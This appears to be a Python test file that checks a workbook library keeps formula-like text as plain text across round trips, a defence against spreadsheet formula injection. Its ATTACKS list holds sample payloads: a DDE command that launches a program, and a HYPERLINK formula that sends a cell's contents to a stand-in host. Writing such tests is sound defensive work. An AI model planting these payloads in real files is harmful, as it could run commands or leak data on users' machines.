"""Text that begins like a formula stays text, wherever it stands and whoever saves the workbook."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings

from xxgk.report import Report
from xxgk.workbook.formulas import formulas
from xxgk.workbook.reading.read import read_report

from support.loaded import loaded
from support.reports import texts_everywhere
from support.sizes import FULL
from support.workbooks import LAYOUT, edited, filled, reports

FORMULAS = {(formula.cell.sheet, formula.cell.ref) for formula in formulas(LAYOUT)}
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("\t", "\n", "\r\n", " ", "　", "'", '"', "{")
ATTACKS = ("=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&C4,"看")', "@SUM(A1:A9)", "+86 10 1234", "-5")
TEXTS = (*(f"{sign}1+1" for sign in SIGNS), *(f"{before}=1+1" for before in BEFORE), *ATTACKS)
# Which text comes first. In all turns by hand (XXGK_TURNS=1) each text is in each cell.
TURNS = range(0, len(TEXTS), int(os.environ.get("XXGK_TURNS", 7))) if FULL else (0,)


def cells_of(data: bytes) -> dict[str, set[tuple[str, str]]]:
    """Return the cells that hold a formula ("f"), or a text ("s"), as openpyxl sees them."""
    found: dict[str, set[tuple[str, str]]] = {"f": set(), "s": set()}
    for sheet in loaded(data):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            found.setdefault(cell.data_type, set()).add((sheet.title, cell.coordinate))
    return {kind: found[kind] for kind in ("f", "s")}


def test_no_field_of_the_report_that_holds_text_is_left_out() -> None:
    report = texts_everywhere(TEXTS)
    others = {"form", "year", "level", "date", "previous", "remarks", "places"}
    assert all(getattr(report, name) for name in Report._names if name not in others)
    assert all(figure.note for figure in (*report.figures.values(), *report.fields.values()))


@pytest.mark.parametrize("turn", TURNS)
def test_text_stays_text_over_two_round_trips(turn: int) -> None:
    report = texts_everywhere((*TEXTS[turn:], *TEXTS[:turn]))
    data = filled(report)
    texts = cells_of(data)["s"]
    for program in (lambda before: filled(read_report(before)), saved_by_openpyxl):
        after = data
        for _ in range(2):
            after = program(after)
            assert read_report(after) == report
            assert cells_of(after) == {"f": FORMULAS, "s": texts}


def saved_by_openpyxl(data: bytes) -> bytes:
    return edited(data, lambda workbook: None)


@settings(max_examples=settings().max_examples // 5)
@given(reports())
def test_what_was_read_is_written_and_read_alike(report: Report) -> None:
    first = read_report(filled(report))
    second = read_report(filled(first))
    assert second == first == report
    assert read_report(saved_by_openpyxl(filled(second))) == report
